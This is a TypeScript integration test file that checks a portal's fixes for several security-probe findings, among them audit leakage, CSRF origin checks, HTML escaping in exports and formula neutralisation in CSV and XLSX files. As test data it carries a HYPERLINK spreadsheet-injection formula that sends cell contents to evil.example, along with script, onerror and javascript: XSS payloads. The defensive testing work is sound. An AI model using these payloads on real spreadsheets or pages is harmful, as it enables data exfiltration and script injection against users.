import crypto from 'node:crypto';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import mammoth from 'mammoth';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Db } from '../../db/client.server.ts';
import type { Tlp } from '../../db/schema.ts';
import { stateFromMarkdown } from '../../app/content/render.server.ts';
import { createActionItem } from '../../app/models/action-item.server.ts';
import { listAuditEvents } from '../../app/models/audit.server.ts';
import { createDocument, type Participants } from '../../app/models/document.server.ts';
import { parseImportFile } from '../../app/services/action-import.server.ts';
import { looksLikeFormula } from '../../app/utils/spreadsheet-cell.ts';
import { startPortal, type Portal } from '../../server/portal.ts';
import { TestBrowser } from '../support/browser.ts';
import { openDocx } from '../support/docx-reader.ts';
import { makePerson, unique } from '../support/factories.ts';
import { wideXlsx } from '../support/import-files.ts';
import { DEMO_PASSWORD, portalEnv, requireServerBuild } from '../support/portal-env.ts';
import { createTestDatabase, dialects, type TestDatabase } from '../support/test-database.ts';

/** Issue 10, findings 1, 2, 4, 6, 8 and 9, over HTTP against the real server. */

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")';

function csvCells(text: string): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
}

describe.each(dialects)('the outside probe’s findings on %s', (dialect) => {
  let database: TestDatabase;
  let portal: Portal;
  let db: Db;
  const browsers = new Map<string, TestBrowser>();
  const people: Record<string, { id: string; institutionId: string }> = {};

  async function as(who: string): Promise<TestBrowser> {
    let browser = browsers.get(who);
    if (!browser) {
      browser = new TestBrowser(portal.url);
      expect((await browser.post('/login', { email: `${who}@demo.example`, password: DEMO_PASSWORD, redirectTo: '/dashboard' })).status, `sign-in of ${who}`).toBe(302);
      browsers.set(who, browser);
    }
    return browser;
  }

  async function makeDoc(title: string, tlp: Tlp, owner: string, participants: Partial<Participants> = {}, text = 'Probe.') {
    return (
      await createDocument(
        db,
        people.private.id,
        { title, type: 'other', language: 'en', summary: '', ownerInstitutionId: owner, tlp },
        { institutions: participants.institutions ?? [], people: participants.people ?? [] },
        stateFromMarkdown(text),
      )
    ).id;
  }

  async function demoPlan(): Promise<string> {
    return (await db.selectFrom('document').select('id').where('type', '=', 'action_plan').where('tlp', 'in', ['CLEAR', 'GREEN']).executeTakeFirstOrThrow()).id;
  }

  beforeAll(async () => {
    requireServerBuild();
    database = await createTestDatabase(dialect, { migrate: false });
    portal = await startPortal(portalEnv(database));
    db = portal.services.db;
    for (const who of ['admin', 'secretariat', 'member', 'private', 'observer']) {
      people[who] = await db.selectFrom('user').select(['id', 'institutionId']).where('email', '=', `${who}@demo.example`).executeTakeFirstOrThrow();
    }
  });

  afterAll(async () => {
    await portal?.close();
    await database?.cleanup();
  });

  test('finding 1: a 10,000 × 20 XLSX import over HTTP is refused at the row limit, and /healthz answers alongside it', async () => {
    const bytes = await wideXlsx(10_000, 'Ministry of Security of Bosnia and Herzegovina');
    const form = new FormData();
    form.append('planId', await demoPlan());
    form.append('file', new File([bytes], 'plan.xlsx', { type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' }));
    const importing = (await as('secretariat')).request('/actions/import', { method: 'POST', body: form });
    // Sent while the upload is on its way; the lag itself is measured in bench/import.bench.ts (no clock in tests).
    const health = await fetch(new URL('/healthz', portal.url));
    expect(health.status).toBe(200);
    const response = await importing;
    expect(response.status).toBe(400);
    expect(await response.text()).toContain('5,000');
  }, 60_000);

  test('finding 2: the audit page and CSV hold no trace of documents the reader may not open', async () => {
    const red = await makeDoc(`Red incident ${unique()}`, 'RED', people.private.institutionId, { people: [{ userId: people.private.id, access: 'edit' }] });
    const amber = await makeDoc(`Amber roadmap ${unique()}`, 'AMBER', people.private.institutionId);
    const titles = await db.selectFrom('document').select(['id', 'title']).where('id', 'in', [red, amber]).execute();
    const title = (id: string) => titles.find((t) => t.id === id)!.title;
    const secretariat = await as('secretariat');
    expect((await secretariat.get(`/documents/${red}`)).status).toBe(404);
    const page = await (await secretariat.get('/audit')).text();
    const csv = await (await secretariat.get('/audit.csv')).text();
    for (const text of [page, csv]) {
      expect(text).toContain(title(amber));
      expect(text).not.toContain(title(red));
      expect(text).not.toContain(red);
    }
    // Filtering by the unreadable document finds nothing either.
    expect(csvCells(await (await secretariat.get(`/audit.csv?document=${red}`)).text())).toHaveLength(1);
  });

  test('finding 4: better-auth’s /update-user takes a name only by the portal’s rule, and the change is audited', async () => {
    const member = await as('member');
    const post = (name: unknown) =>
      member.request('/api/auth/update-user', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name }) });
    const before = (await db.selectFrom('user').select('name').where('id', '=', people.member.id).executeTakeFirstOrThrow()).name;
    for (const bad of ['x'.repeat(201), 'x'.repeat(1_000_000), 'Name\u0000With a NUL', 'Line\nbreak', 'Bidi \u202Eevil', '   ']) {
      expect((await post(bad)).status, JSON.stringify(bad.slice(0, 20))).toBe(400);
    }
    expect((await db.selectFrom('user').select('name').where('id', '=', people.member.id).executeTakeFirstOrThrow()).name).toBe(before);

    expect((await post(`  ${'Ž'.repeat(200)}  `)).status).toBe(200);
    expect((await db.selectFrom('user').select('name').where('id', '=', people.member.id).executeTakeFirstOrThrow()).name).toBe('Ž'.repeat(200));
    expect((await post('  Edin Member  ')).status).toBe(200);
    expect((await db.selectFrom('user').select('name').where('id', '=', people.member.id).executeTakeFirstOrThrow()).name).toBe('Edin Member');
    const renames = await listAuditEvents(db, { entityType: 'person', entityId: people.member.id, action: 'person.rename' });
    expect(renames.map((e) => JSON.parse(e.details))).toEqual([
      { from: 'Ž'.repeat(200), to: 'Edin Member' },
      { from: before, to: 'Ž'.repeat(200) },
    ]);
    expect(renames[0].actorId).toBe(people.member.id);
    expect((await post(before)).status).toBe(200);
  });

  test('finding 6: the Markdown export of a document escapes the HTML its text holds', async () => {
    const id = await makeDoc(`Hostile ${unique()}`, 'GREEN', people.member.institutionId, {}, 'A <script>alert(1)</script> and <img src=x onerror=alert(2)> and <iframe src="https://evil.example"></iframe>');
    const response = await (await as('member')).get(`/documents/${id}/export?format=md`);
    expect(response.status).toBe(200);
    const markdown = await response.text();
    expect(markdown).toContain('&lt;script>alert(1)&lt;/script>');
    expect(markdown).not.toMatch(/<(script|img|iframe)/i);
  });

  test('finding 6, Word: the .docx export carries the HTML a text holds as words, never as markup', async () => {
    const id = await makeDoc(`Hostile <b>${unique()}</b>`, 'GREEN', people.member.institutionId, {}, 'A <script>alert(1)</script> and <img src=x onerror=alert(2)> and [bad](javascript:alert(3))');
    const response = await (await as('member')).get(`/documents/${id}/export?format=docx`);
    expect(response.status).toBe(200);
    const buffer = Buffer.from(await response.arrayBuffer());
    const docx = await openDocx(buffer);
    for (const file of docx.files.filter((name) => name.endsWith('.xml') || name.endsWith('.rels'))) {
      const xml = (await docx.raw(file))!;
      expect(xml, file).not.toMatch(/<(script|img|b)[\s>]/i);
      // Words may say "javascript:"; no relationship may point there.
      if (file.endsWith('.rels')) expect(xml, file).not.toMatch(/javascript:/i);
    }
    expect(docx.files.filter((name) => /\.(html?|mht)$|altChunk/i.test(name))).toEqual([]);
    expect((await mammoth.extractRawText({ buffer })).value).toContain('A <script>alert(1)</script> and <img src=x onerror=alert(2)>');
  });

  test('finding 8: state-changing requests need a same-origin Origin or Sec-Fetch-Site', async () => {
    const browser = new TestBrowser(portal.url);
    const post = (headers: Record<string, string>) =>
      fetch(new URL('/language', portal.url), { method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers }, body: 'lng=bs&redirectTo=/' });
    expect((await post({ origin: 'null' })).status).toBe(403);
    expect((await post({})).status).toBe(403);
    expect((await post({ 'sec-fetch-site': 'cross-site' })).status).toBe(403);
    expect((await post({ 'sec-fetch-site': 'same-site' })).status).toBe(403);
    expect((await post({ origin: 'https://evil.example' })).status).toBe(403);
    expect((await post({ 'sec-fetch-site': 'same-origin' })).status).toBe(302);
    expect((await post({ origin: new URL(portal.url).origin })).status).toBe(302);
    // A signed-in member's form without either header is refused too, before it is read.
    const member = await as('member');
    const cookie = [...member.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
    const refused = await fetch(new URL('/notifications', portal.url), { method: 'POST', redirect: 'manual', headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' }, body: 'intent=read-all' });
    expect(refused.status).toBe(403);
    // Reading needs neither.
    expect((await fetch(new URL('/healthz', portal.url))).status).toBe(200);
    expect((await browser.get('/login')).status).toBe(200);
  });

  test('finding 9: every CSV and XLSX the portal writes neutralises formulas', async () => {
    const plan = await demoPlan();
    await createActionItem(
      db,
      {
        planId: plan,
        code: `F.${unique()}`,
        title: FORMULA,
        description: '+1+1',
        sectionRef: null,
        pillarCode: null,
        cbms: [14],
        primaryCbm: 14,
        ownerInstitutionId: people.member.institutionId,
        supporterIds: [],
        status: 'in_progress',
        priority: 'medium',
        startDate: null,
        dueDate: null,
        progress: 10,
        budgetAmount: null,
        budgetCurrency: null,
        fundingSource: null,
        tlp: 'GREEN',
        tags: [],
        indicators: [],
      },
      people.secretariat.id,
    );
    const formulaActor = await makePerson(db, { name: '@SUM(1+1)*cmd', institutionId: people.secretariat.institutionId, role: 'secretariat' });
    await db
      .insertInto('auditEvent')
      .values({ id: crypto.randomUUID(), actorId: formulaActor.id, action: 'settings.update', entityType: 'settings', entityId: 'portal', details: '{}', createdAt: new Date().toISOString() })
      .execute();
    const secretariat = await as('secretariat');

    const cells = {
      'actions.csv': csvCells(await (await secretariat.get('/actions.csv')).text()).flat(),
      'osce-export.csv': csvCells(await (await secretariat.get('/cbms/osce-export.csv')).text()).flat(),
      'audit.csv': csvCells(await (await secretariat.get('/audit.csv')).text()).flat(),
      'template.csv': csvCells(await (await secretariat.get('/actions/import/template.csv')).text()).flat(),
    };
    expect(cells['actions.csv']).toContain(`'${FORMULA}`);
    expect(cells['actions.csv']).toContain("'+1+1");
    expect(cells['osce-export.csv']).toContain(`'${FORMULA}`);
    expect(cells['audit.csv']).toContain("'@SUM(1+1)*cmd");
    for (const [file, list] of Object.entries(cells)) expect(list.filter(looksLikeFormula), file).toEqual([]);

    for (const path of ['/actions.xlsx', '/actions/import/template.xlsx']) {
      const response = await secretariat.get(path);
      expect(response.status).toBe(200);
      const bytes = new Uint8Array(await response.arrayBuffer());
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
      const values: string[] = [];
      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => values.push(typeof cell.value === 'string' ? cell.value : '')));
      expect(values.filter(looksLikeFormula), path).toEqual([]);
      if (path === '/actions.xlsx') {
        expect(values).toContain(`'${FORMULA}`);
        // The portal's own import reads the text back without the apostrophe.
        const parsed = await parseImportFile('actions.xlsx', bytes);
        if (!parsed.ok) throw new Error(parsed.error);
        expect(parsed.file.rows.map((r) => r.cells.title)).toContain(FORMULA);
      }
    }
  });
});
